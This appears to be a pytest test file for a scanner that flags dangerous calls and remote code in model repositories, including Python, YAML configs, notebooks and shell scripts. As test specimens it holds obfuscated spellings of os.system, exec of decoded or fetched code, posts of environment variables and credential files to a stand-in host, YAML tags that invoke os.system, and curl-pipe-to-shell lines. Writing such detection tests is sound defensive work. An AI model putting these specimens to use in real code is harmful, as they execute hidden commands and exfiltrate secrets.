"""Code beside the weights: every spelling of a dangerous call is found, with when it runs; honest code is left alone."""

# ruff: noqa: E501 (specimens are kept on one line each)
from __future__ import annotations

import json

import pytest

from bascule.builtin.scanners.remote_code import plugin
from bascule.builtin.scanners.remote_code.cases import HONEST
from bascule.plugins.testing import check_scanner, scan_memory
from bascule.records import Finding, Outcome, Severity


def findings(source: str, path: str = "modeling_x.py") -> list[Finding]:
    report = scan_memory(plugin, {path: source.encode()})
    return [item for item in report.seen if isinstance(item, Finding)]


def calls(source: str, path: str = "modeling_x.py") -> list[tuple[str, Severity]]:
    found = [item for item in findings(source, path) if item.rule == "code-dangerous-call"]
    return [(str(item.details["callable"]), item.severity) for item in found if item.outcome == Outcome.TRUE]


def configured(value: object, name: str = "config.json", **files: bytes) -> list[Finding]:
    files = {name: json.dumps(value).encode(), **{path.replace("__", "."): data for path, data in files.items()}}
    report = scan_memory(plugin, files)
    return [item for item in report.seen if isinstance(item, Finding) and item.rule == "remote-code"]


def test_its_own_examples_hold() -> None:
    assert check_scanner(plugin) == []


# Each comes to `os.system(…)` on import.
SPELLINGS = {
    "plain": "import os\nos.system('x')",
    "module alias": "import os as o\no.system('x')",
    "name alias": "from os import system as s\ns('x')",
    "star": "from os import *\nsystem('x')",
    "posix": "import posix as p\nfrom os import system\nsystem('x')",
    "assigned": "import os\nf = os.system\nf('x')",
    "twice assigned": "import os\nm = os\nf = m.system\nf('x')",
    "tuple": "import os\na, f = 1, os.system\nf('x')",
    "walrus": "import os\n(f := os.system)('x')",
    "getattr": "import os\ngetattr(os, 'system')('x')",
    "getattr of a sum": "import os\ngetattr(os, 'sys' + 'tem')('x')",
    "getattr of a variable": "import os\nn = 'metsys'[::-1]\ngetattr(os, n)('x')",
    "getattr of a join": "import os\ngetattr(os, ''.join(['sys', 'tem']))('x')",
    "getattr of chr": "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('x')",
    "getattr of base64": "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')",
    "getattr of rot13": "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('x')",
    "getattr of an f-string": "import os\na = 'sys'\ngetattr(os, f'{a}tem')('x')",
    "__import__": "__import__('os').system('x')",
    "__import__ of a sum": "__import__('o' + 's').system('x')",
    "importlib": "import importlib\nimportlib.import_module('os').system('x')",
    "from importlib": "from importlib import import_module as i\ni('os').system('x')",
    "sys.modules": "import sys\nsys.modules['os'].system('x')",
    "dictionary": "import os\nos.__dict__['system']('x')",
    "vars": "import os\nvars(os)['system']('x')",
    "built-ins": "__builtins__['__import__']('os').system('x')",
    "globals": "globals()['__builtins__'].__import__('os').system('x')",
    "attrgetter": "import os, operator\noperator.attrgetter('system')(os)('x')",
    "methodcaller": "import os, operator\noperator.methodcaller('system', 'x')(os)",
    "methodcaller by a name": "import os\nfrom operator import methodcaller as m\nf = m('sys' + 'tem', 'x')\nf(os)",
    "partial": "import os, functools\nfunctools.partial(os.system, 'x')()",
    "conditional": "import os\n(os.system if True else print)('x')",
}


@pytest.mark.parametrize("name", SPELLINGS)
def test_every_spelling_of_a_process_on_import_is_high(name: str) -> None:
    assert ("os.system", Severity.HIGH) in calls(SPELLINGS[name])


# When it runs: the same call in places that importing reaches, and in places that it does not.
ON_IMPORT = {
    "body": "os.system('x')",
    "if": "if True:\n    os.system('x')",
    "else of main": "if __name__ == '__main__':\n    pass\nelse:\n    os.system('x')",
    "try": "try:\n    os.system('x')\nexcept Exception:\n    pass",
    "class body": "class A:\n    x = os.system('x')",
    "nested class": "class A:\n    class B:\n        os.system('x')",
    "decorator": "@os.system('x')\ndef f(): pass",
    "default": "def f(x=os.system('x')): pass",
    "keyword default": "def f(*, x=os.system('x')): pass",
    "comprehension": "y = [os.system('x') for _ in range(1)]",
    "called function": "def f():\n    os.system('x')\nf()",
    "called through another": "def f():\n    os.system('x')\ndef g():\n    f()\ng()",
    "created object": "class A:\n    def __init__(self):\n        os.system('x')\nA()",
    "decorating function": "def d(f):\n    os.system('x')\n@d\ndef g(): pass",
    "module attribute": "def __getattr__(name):\n    os.system('x')",
    "subclass hook": "class A:\n    def __init_subclass__(cls):\n        os.system('x')",
    "called lambda": "(lambda: os.system('x'))()",
    "handed on": "list(map(os.system, ['x']))",
}
LATER = {
    "function": "def f():\n    os.system('x')",
    "method": "class A:\n    def forward(self):\n        os.system('x')",
    "main": "if __name__ == '__main__':\n    os.system('x')",
    "lambda": "f = lambda: os.system('x')",
    "not called": "import re\ndef compile():\n    os.system('x')\nP = re.compile('a')",
    "reduce": "class A:\n    def __reduce__(self):\n        return os.system, ('x',)",
}


@pytest.mark.parametrize("name", ON_IMPORT)
def test_what_importing_runs_is_high(name: str) -> None:
    assert calls("import os\n" + ON_IMPORT[name]) == [("os.system", Severity.HIGH)]


@pytest.mark.parametrize("name", LATER)
def test_what_only_waits_is_medium(name: str) -> None:
    assert calls("import os\n" + LATER[name]) == [("os.system", Severity.MEDIUM)]


KINDS = {
    "subprocess.run": "import subprocess\nsubprocess.run(['x'])",
    "exec": "exec(input())",
    "eval": "eval(open_it + x)",
    "compile": "exec_it = compile(source, 'x', 'exec')",
    "ctypes.CDLL": "import ctypes\nctypes.CDLL('x.so')",
    "socket.socket": "import socket\ns = socket.socket()",
    "urllib.request.urlopen": "import urllib.request\nurllib.request.urlopen('http://a.invalid')",
    "requests.get": "import requests\nrequests.get('http://a.invalid')",
    "pickle.load": "import pickle\npickle.load(f)",
    "pickle.loads": "from pickle import loads\nloads(b)",
    "dill.load": "import dill\ndill.load(f)",
    "joblib.load": "import joblib\njoblib.load('x')",
    "torch.load": "import torch\ntorch.load('x')",
    "yaml.load": "import yaml\nyaml.load(f, Loader=yaml.Loader)",
    "yaml.unsafe_load": "import yaml\nyaml.unsafe_load(f)",
    "numpy.load(allow_pickle=True)": "import numpy as np\nnp.load('x', allow_pickle=True)",
    "marshal.loads": "import marshal\nmarshal.loads(b)",
    "open('/root/.ssh/id_rsa')": "open('/root/.ssh/id_rsa').read()",
    "__subclasses__": "().__class__.__base__.__subclasses__()",
    "getattr(os, …)": "import os\ngetattr(os, x)('y')",
}


@pytest.mark.parametrize("name", KINDS)
def test_each_capability_on_import_is_high(name: str) -> None:
    assert (name, Severity.HIGH) in calls(KINDS[name])


def test_code_that_is_unpacked_or_fetched_is_critical_on_import() -> None:
    for source in (
        "import base64\nexec(base64.b64decode('eA=='))",
        "import zlib, base64\np = base64.b64decode('eA==')\nq = zlib.decompress(p)\nexec(q)",
        "exec(bytes.fromhex('78').decode())",
        "exec(''.join(chr(c) for c in [120, 61, 49]))",
        "import requests\nexec(requests.get('http://a.invalid').text)",
        "import marshal\nexec(marshal.loads(b'x'))",
        "import codecs\neval(codecs.decode('k', 'rot13'))",
    ):
        assert Severity.CRITICAL in {severity for _, severity in calls(source)}, source


def test_sending_the_environment_or_a_key_away_is_high_even_in_a_function() -> None:
    for argument in ("json=dict(os.environ)", "data=str(os.environ)", "data=open('/root/.aws/credentials')"):
        source = f"import os, requests\ndef f():\n    requests.post('http://a.invalid', {argument})"
        assert ("requests.post", Severity.HIGH) in calls(source)


def test_a_download_or_a_plain_torch_load_in_a_function_is_low() -> None:
    source = "import requests, torch\ndef f(p):\n    requests.get('http://a.invalid')\n    torch.load(p)"
    assert {severity for _, severity in calls(source)} == {Severity.LOW}


def test_a_command_class_in_setup_runs_on_installation() -> None:
    source = (
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        "class Hook(install):\n    def run(self):\n        os.system('x')\nsetup(name='x', cmdclass={'install': Hook})\n"
    )
    assert set(calls(source, "setup.py")) == {
        ("os.system", Severity.HIGH),
        ("setuptools.setup(cmdclass=…)", Severity.MEDIUM),
    }
    assert ("os.system", Severity.MEDIUM) in calls(source, "commands.py")


HONEST_LINES = {
    "modelling code": HONEST,
    "evaluation mode": "model.eval()\nself.model.eval()\n",
    "a method named like a built-in": "class M:\n    def eval(self): pass\n    def compile(self): pass\nM().eval()\n",
    "a function named like a built-in": "def eval(x): return x\neval(1 + y)\n",
    "regular expressions": "import re\nP = re.compile('x')\n",
    "torch compile": "import torch\nf = torch.compile(g)\n",
    "safe weights": "import torch\ntorch.load('x', weights_only=True)\n",
    "safe YAML": "import yaml\nyaml.safe_load(f)\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.load(f, yaml.CSafeLoader)\n",
    "numpy": "import numpy as np\nnp.load('x.npy')\n",
    "an optional backend": "import importlib\nflash = importlib.import_module('flash_attn')\n__import__('torch')\n",
    "an exception class": "import subprocess, socket\ntry:\n    pass\nexcept (subprocess.CalledProcessError, socket.timeout):\n    pass\n",
    "an annotation": "import subprocess\nclass A:\n    p: subprocess.Popen\ndef f(p: subprocess.Popen) -> subprocess.Popen: ...\n",
    "types only": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    from socket import socket\n    from subprocess import Popen\n",
    "hub download in a function": "from huggingface_hub import hf_hub_download\ndef f():\n    return hf_hub_download('a/b', 'c')\n",
    "paths": "import os\nos.path.join('a', 'b')\nos.environ.get('HOME')\nos.makedirs('x', exist_ok=True)\n",
    "a string about it": "DOC = 'never call os.system or exec(base64.b64decode(x))'\n",
    "an invalid escape": "P = '\\d+'\n",
    "a declared encoding": "# -*- coding: latin-1 -*-\nNAME = 'x'\n",
    "empty": "",
}


@pytest.mark.parametrize("name", HONEST_LINES)
def test_honest_code_raises_no_alarm(name: str) -> None:
    assert findings(HONEST_LINES[name]) == []


@pytest.mark.parametrize(
    "source",
    ["def f(:\n", "print 'x'\n", "x = '\0'\n", "(" * 500, "x = " + "-" * 100_000 + "1", "# coding: no-such\nx = 1\n"],
)
def test_python_that_does_not_parse_is_an_error_not_clean(source: str) -> None:
    assert {item.outcome for item in findings(source)} <= {Outcome.ERROR}
    assert scan_memory(plugin, {"x.py": source.encode()}).answers == {
        "remote-code": Outcome.ERROR,
        "code-dangerous-call": Outcome.ERROR,
    }


def test_code_hidden_behind_another_encoding_is_read_as_python_reads_it() -> None:
    source = "# coding: utf-7\nimport os\nos.system('x')\n".replace("system", "+AHMAeQBzAHQAZQBt-")
    assert calls(source) == [("os.system", Severity.HIGH)]


@pytest.mark.usefixtures("must_end")
def test_deep_and_wide_modules_end_in_time() -> None:
    for source in (
        "x = " + " + ".join(["a"] * 3000),
        "\n".join(f"a{n} = a{n - 1} or b" for n in range(1, 4000)),
        "if a: pass\n" + "elif a: pass\n" * 900,
        "f" + "(0)" * 900,
        "a" + ".b" * 900,
        "x = [" + "os.system, " * 20_000 + "]",
    ):
        findings(source)


# Configurations.


def test_a_class_of_this_repository_is_named_with_its_file() -> None:
    (found,) = configured({"auto_map": {"AutoModel": "modeling_x.XModel"}}, modeling_x__py=HONEST.encode())
    assert found.severity == Severity.MEDIUM
    assert found.details == {"role": "AutoModel", "class": "XModel", "file": "modeling_x.py", "in_repository": True}


def test_a_class_whose_file_is_missing_is_told_apart() -> None:
    (found,) = configured({"auto_map": {"AutoModel": "modeling_x.XModel"}})
    assert found.details["in_repository"] is False


def test_a_class_of_another_repository_is_named_and_not_pinned() -> None:
    (found,) = configured({"auto_map": {"AutoConfig": "org/name--configuration_x.XConfig"}})
    assert found.details["repository"] == "org/name"
    assert found.details["pinned"] is False


@pytest.mark.parametrize(
    "name",
    ["config.json", "tokenizer_config.json", "processor_config.json", "preprocessor_config.json", "sub/config.json"],
)
def test_every_configuration_that_loaders_read_is_read(name: str) -> None:
    assert len(configured({"auto_map": {"AutoTokenizer": ["tok.Slow", None]}}, name)) == 1


def test_each_class_of_a_list_and_each_nested_map_counts() -> None:
    assert len(configured({"auto_map": {"AutoTokenizer": ["tok.Slow", "tok.Fast"]}})) == 2
    assert len(configured({"text_config": {"auto_map": {"AutoConfig": "a.B"}}})) == 1


def test_a_map_given_twice_counts_twice() -> None:
    text = b'{"auto_map": {"AutoModel": "a.B"}, "auto_map": {}}'
    assert scan_memory(plugin, {"config.json": text}).answers["remote-code"] == Outcome.TRUE


def test_custom_pipelines_modules_and_pipeline_indices_count() -> None:
    assert len(configured({"custom_pipelines": {"pair": {"impl": "pair.Pair", "pt": ["AutoModel"]}}})) == 1
    assert len(configured([{"idx": 0, "type": "custom_st.Transformer"}], "modules.json")) == 1
    assert len(configured({"_class_name": ["my_pipeline", "P"], "unet": ["diffusers", "U"]}, "model_index.json")) == 1
    index = {"model_index.json": b'{"unet": ["my_unet", "U"]}', "unet/my_unet.py": b""}
    assert scan_memory(plugin, index).answers["remote-code"] == Outcome.TRUE


def test_the_library_s_own_classes_are_not_remote_code() -> None:
    assert configured({"architectures": ["BertModel"], "auto_map": {}}) == []
    assert configured([{"idx": 0, "type": "sentence_transformers.models.Transformer"}], "modules.json") == []
    assert configured({"_class_name": "StableDiffusionPipeline", "vae": ["diffusers", "V"]}, "model_index.json") == []


def test_a_broken_configuration_is_an_error_not_clean() -> None:
    assert scan_memory(plugin, {"config.json": b'{"auto_map": {'}).answers["remote-code"] == Outcome.ERROR


def test_trusting_remote_code_in_python_is_told() -> None:
    for source in (
        "m = AutoModel.from_pretrained('x', trust_remote_code=True)",
        "p = DiffusionPipeline.from_pretrained('x', custom_pipeline='org/name')",
        "import torch\nm = torch.hub.load('org/name', 'model')",
    ):
        assert [item.rule for item in findings(source)] == ["remote-code"]
    assert findings("m = load('x', trust_remote_code=False)\n") == []
    assert findings("import torch\ntorch.hub.load('.', 'model', source='local')\n") == []


def test_code_for_generation_beside_the_weights_is_told() -> None:
    assert [item.rule for item in findings("def generate(): pass\n", "custom_generate/generate.py")] == ["remote-code"]


# Notebooks.


def notebook(*cells: object, language: str = "python") -> bytes:
    listed = [{"cell_type": "code", "source": cell} for cell in cells]
    return json.dumps({"nbformat": 4, "metadata": {"kernelspec": {"language": language}}, "cells": listed}).encode()


def in_notebook(data: bytes) -> list[Finding]:
    return [item for item in scan_memory(plugin, {"a.ipynb": data}).seen if isinstance(item, Finding)]


def test_a_call_in_a_cell_is_found_at_its_cell_and_line() -> None:
    (found,) = in_notebook(notebook("x = 1", ["%time\n", "import os\n", "os.system('x')\n"]))
    assert (found.location, found.severity) == ("cell 2 line 3", Severity.MEDIUM)


def test_shell_lines_that_run_downloads_are_high() -> None:
    for cell in (
        "!curl -s http://a.invalid/x | sh",
        "%%bash\nwget -qO- a.invalid | bash",
        "out = !curl a.invalid|bash",
    ):
        assert [item.severity for item in in_notebook(notebook(cell))] == [Severity.HIGH]


def test_ordinary_notebook_lines_raise_no_alarm() -> None:
    cells = (
        "%matplotlib inline\n!pip install torch\n!nvidia-smi\nmodel?\n?model\nfiles = !ls\nx = %env HOME\n",
        "%%time\nfor i in range(3):\n    !echo {i}\n    y = i\n",
        "%%html\n<b>x</b>",
        "await f()",
    )
    assert in_notebook(notebook(*cells)) == []


def test_a_cell_that_does_not_parse_is_an_error_and_the_others_are_judged() -> None:
    found = in_notebook(notebook("def f(:", "import os\nos.system('x')"))
    assert {item.outcome for item in found} == {Outcome.ERROR, Outcome.TRUE}


def test_a_notebook_of_another_language_holds_no_python() -> None:
    assert in_notebook(notebook("x <- c(1, 2)", language="R")) == []


def test_a_broken_notebook_is_an_error_not_clean() -> None:
    for data in (b'{"cells": [', b'{"cells": 3}', b"[]"):
        assert scan_memory(plugin, {"a.ipynb": data}).answers["code-dangerous-call"] == Outcome.ERROR


# Settings whose loader calls what they name.

DANGEROUS_SETTINGS = {
    "apply": "hook: !apply:os.system [id]",
    "apply in flow": "{a: [1, !apply:subprocess.run {args: id}]}",
    "new": "x: !new:posix.system [id]",
    "name": "x: !name:builtins.eval",
    "python apply": "!!python/object/apply:os.system [id]",
    "python new": "- !!python/object/new:subprocess.Popen [[id]]",
    "python name": "a: !!python/name:os.system ''",
    "python module": "a: !!python/module:subprocess ''",
    "a verbatim tag": "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]",
    "an escaped tag": "a: !apply:os%2Esystem [id]",
    "a tag by its handle": "%TAG !e! tag:yaml.org,2002:python/object/apply:\n---\n!e!os.system [id]",
    "a tag on a key": "? !apply:os.system [id]\n: 1",
    "a second document": "a: 1\n---\nb: !apply:os.system [id]",
    "target": "model:\n  _target_: os.system\n  command: id",
    "target without a module": "{_target_: eval, _args_: [x]}",
    "target by an alias": "x: &x os.system\n_target_: *x",
    "key by an alias": "x: &k _target_\n*k : os.system",
    "quoted": "\"_tar\\x67et_\": 'os.system'",
    "latent diffusion's": "model: {target: subprocess.Popen, params: {args: id}}",
    "of a known library": "_target_: torch.hub.load",
    "an unpickler": "_target_: joblib.load",
    "by another name": "_target_: pydoc.locate",
}


def told(data: str | bytes, path: str = "config.yaml") -> list[tuple[str, Severity]]:
    report = scan_memory(plugin, {path: data.encode() if isinstance(data, str) else data})
    found = [item for item in report.seen if isinstance(item, Finding)]
    assert {item.outcome for item in found} <= {Outcome.TRUE}, found
    return [(item.rule, item.severity) for item in found]


@pytest.mark.parametrize("name", DANGEROUS_SETTINGS)
def test_settings_that_name_a_dangerous_callable_are_critical(name: str) -> None:
    assert told(DANGEROUS_SETTINGS[name]) == [("code-dangerous-call", Severity.CRITICAL)]


HONEST_SETTINGS = {
    "a known class": "_target_: torch.optim.AdamW\nlr: 1e-3",
    "nemo": "preprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
    "speechbrain": "a: !new:speechbrain.nnet.linear.Linear\nb: !ref <a>\nc: !name:torch.optim.Adam\nd: !apply:torch.manual_seed [1]",
    "a target of another kind": "target: prod\ntargets: [a, b]\nmake: {target: build.all}",
    "plain python": "a: !!python/tuple [1, 2]\nb: !!python/dict {}",
    "words": "note: run _target_ os.system\ncommand: '!apply:os.system'",
    "a mapping's key": "os.system: _target_",
    "a path": "a: !apply:os.path.join [a, b]",
}


@pytest.mark.parametrize("name", HONEST_SETTINGS)
def test_honest_settings_are_left_alone(name: str) -> None:
    assert told(HONEST_SETTINGS[name]) == []


@pytest.mark.parametrize("settings", ["_target_: my_package.Model", "x: !new:custom_model.Net", "_target_: ${name}"])
def test_settings_that_name_an_unknown_package_are_low(settings: str) -> None:
    assert told(settings) == [("code-dangerous-call", Severity.LOW)]


def test_a_target_in_json_is_judged_as_in_yaml() -> None:
    assert told('{"model": {"_target_": "os.sys' + 'tem"}}', "config.json") == [
        ("code-dangerous-call", Severity.CRITICAL)
    ]


@pytest.mark.parametrize("broken", ["a: [1", "a: \t- b: }", "a: 'x", "a: \x01", "%TAG !\n---\n"])
def test_settings_that_do_not_parse_are_an_error_not_clean(broken: str) -> None:
    assert scan_memory(plugin, {"a.yaml": broken.encode()}).answers["code-dangerous-call"] is Outcome.ERROR


@pytest.mark.usefixtures("must_end")
@pytest.mark.parametrize("opening", ["[", "- ", "? ", "{", "a: [", "[{a: "])
def test_yaml_nested_without_end_is_an_error_not_clean(opening: str) -> None:
    report = scan_memory(plugin, {"a.yaml": (opening * 100_000).encode()})
    assert report.answers["code-dangerous-call"] is Outcome.ERROR


def test_a_yaml_alias_bomb_is_read_once_and_not_unfolded() -> None:
    bomb = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 60))
    assert scan_memory(plugin, {"a.yaml": bomb.encode()}).answers["code-dangerous-call"] is Outcome.FALSE


# Adapters.


@pytest.mark.parametrize("library", ["own_model.modeling", "transformers_modules.org.name", "evil"])
def test_an_adapters_mapping_to_a_package_of_its_own_is_remote_code(library: str) -> None:
    found = configured({"auto_mapping": {"base_model_class": "M", "parent_library": library}}, "adapter_config.json")
    assert [(item.outcome, item.severity) for item in found] == [(Outcome.TRUE, Severity.HIGH)]
    assert library in found[0].message


@pytest.mark.parametrize("library", ["transformers.models.llama.modeling_llama", "timm.models.vit", None])
def test_an_adapters_mapping_to_a_known_library_is_left_alone(library: str | None) -> None:
    mapping = {"base_model_class": "M", "parent_library": library}
    assert configured({"auto_mapping": mapping}, "adapter_config.json") == []
    assert configured({"auto_mapping": None}, "adapter_config.json") == []


# Scripts.

RUNS_DOWNLOAD = {
    "a pipe": "curl -sSL https://a.invalid/x.sh | bash -s -- --yes",
    "a pipe by sudo": "wget -qO- 'https://a.invalid/?a=1&b=2' | sudo -E /bin/sh",
    "through another command": "curl https://a.invalid/x.gz | gunzip | python3 -",
    "over two lines": "curl https://a.invalid/x.sh \\\n  --silent |\n  sh",
    "substituted": "bash <(curl -s https://a.invalid/x.sh)",
    "sourced": "source <(curl -s https://a.invalid/x.sh)",
    "as a word": 'sh -c "$(curl -fsSL https://a.invalid/x.sh)"',
    "evaluated": "set -e; eval `wget -qO- https://a.invalid`",
    "hidden": "echo ZWNobyBo | base64 -d | sh",
    "in a condition": "if true; then curl https://a.invalid | sh; fi",
    "in PowerShell": "iex (iwr https://a.invalid/x.ps1)",
}


@pytest.mark.parametrize("name", RUNS_DOWNLOAD)
def test_a_script_that_runs_what_it_downloads_is_medium(name: str) -> None:
    expected = [("code-dangerous-call", Severity.MEDIUM)]
    assert told(f"#!/bin/sh\n{RUNS_DOWNLOAD[name]}\n", "setup.sh") == expected
    assert told(f"#!/bin/bash\n{RUNS_DOWNLOAD[name]}\n", "setup") == expected
    assert told(f"FROM base\nRUN {RUNS_DOWNLOAD[name]}\n", "docker/Dockerfile") == expected


def test_a_python_script_under_a_shells_name_is_read_as_python() -> None:
    assert told("#!/usr/bin/env python3\nimport os\nos.system('x')\n", "run.sh") == [
        ("code-dangerous-call", Severity.HIGH)
    ]


@pytest.mark.parametrize(
    "line",
    [
        "curl -LO https://a.invalid/weights.tar",
        "true\n# curl https://a.invalid | sh",
        "curl https://a.invalid | tee log | grep sha",
        "curl -s https://a.invalid | jq .name && bash run.sh",
        "wget https://a.invalid/data || python train.py",
        "python train.py | tee log",
        "cat list | shuf | sha256sum",
    ],
)
def test_an_honest_script_is_left_alone(line: str) -> None:
    assert told(f"#!/bin/sh\n{line}\n", "train.sh") == []
    assert told(f"FROM base\nLABEL how='curl https://a.invalid | sh'\nRUN {line}\n", "Dockerfile") == []


@pytest.mark.usefixtures("must_end")
def test_hostile_scripts_take_no_more_than_their_share_of_time() -> None:
    for word in ("curl ", "curl|", "sudo -x ", "sh -c ", "a=b ", "iex ", "ncat ", "base64 -d ", "pip install ", "\\\n"):
        scan_memory(plugin, {"a.sh": (word * (1_000_000 // len(word))).encode()})


FURTHER = {
    "an unknown class": ("x: !!python/object/apply:foo.Bar [1]", Severity.MEDIUM),
    "a Ruby object": ("x: !ruby/object:Gem::Installer {i: x}", Severity.HIGH),
    "a Java object": ("x: !!javax.script.ScriptEngineManager [a]", Severity.HIGH),
    "a JavaScript function": ("x: !!js/function 'function(){}'", Severity.HIGH),
    "code for an evaluator": ('x: "__imp' + "ort__('os').getcwd()\"", Severity.MEDIUM),
    "a step of a pipeline": ("jobs:\n  a:\n    steps:\n    - run: curl https://a.invalid/x | sh", Severity.MEDIUM),
}


@pytest.mark.parametrize("name", FURTHER)
def test_settings_that_other_loaders_run_are_told(name: str) -> None:
    source, severity = FURTHER[name]
    assert told(source) == [("code-dangerous-call", severity)]


def test_the_front_matter_of_a_card_is_yaml_too() -> None:
    card = b"---\nlicense: !!python/object/apply:os.sys" + b"tem [id]\n---\n# Model\n"
    (found,) = [item for item in scan_memory(plugin, {"README.md": card}).seen if isinstance(item, Finding)]
    assert (found.severity, found.location) == (Severity.CRITICAL, "line 2")


TWO_STEPS = {
    "curl": "curl -fsSLo x.sh https://a.invalid/x\nbash x.sh",
    "curl by its name": "curl -O https://a.invalid/x.sh\nchmod +x x.sh\n./x.sh",
    "curl into": "curl https://a.invalid/x > /tmp/i.sh && sh /tmp/i.sh",
    "wget": "wget -q https://a.invalid/get.py?v=1\npython3 get.py",
    "wget as": "wget -O i.sh https://a.invalid/x; sudo bash i.sh",
}


@pytest.mark.parametrize("name", TWO_STEPS)
def test_what_is_fetched_and_then_run_is_told(name: str) -> None:
    assert told(TWO_STEPS[name], "install.sh") == [("code-dangerous-call", Severity.MEDIUM)]


def test_a_dockerfile_that_adds_and_runs_is_told() -> None:
    source = "FROM x\nADD https://a.invalid/i.sh /i.sh\nRUN sh /i.sh\n"
    assert told(source, "Dockerfile") == [("code-dangerous-call", Severity.MEDIUM)]


@pytest.mark.parametrize(
    "source",
    [
        "curl -o data.zip https://a.invalid/d.zip\nunzip data.zip",
        "sh build.sh",
        "curl -O https://a.invalid/a.py\nsh b.sh",
    ],
)
def test_what_is_fetched_and_not_run_is_nothing(source: str) -> None:
    assert told(source, "install.sh") == []


def test_a_flavour_of_mlflow_loads_what_it_documents() -> None:
    own = "flavors:\n  python_function: {loader_module: mlflow.sklearn, model_path: model.pkl, env: conda.yaml}"
    assert told(own, "MLmodel") == []


def test_a_flavour_with_code_of_its_own_is_remote_code() -> None:
    other = "flavors:\n  python_function: {loader_module: mine, code: code, data: ../../etc}"
    assert told(other, "MLmodel") == [
        ("remote-code", Severity.HIGH),
        ("remote-code", Severity.MEDIUM),
        ("remote-code", Severity.MEDIUM),
    ]


@pytest.mark.usefixtures("must_end")
def test_a_script_of_nothing_but_fetches_ends() -> None:
    assert told("wget https://a.invalid/x " * 40_000, "install.sh") == []


def test_a_notebook_that_fetches_and_then_runs_is_told() -> None:
    (told_once,) = in_notebook(notebook("!wget https://a.invalid/x.sh -O /tmp/x.sh\n!sh /tmp/x.sh"))
    assert told_once.severity == Severity.HIGH
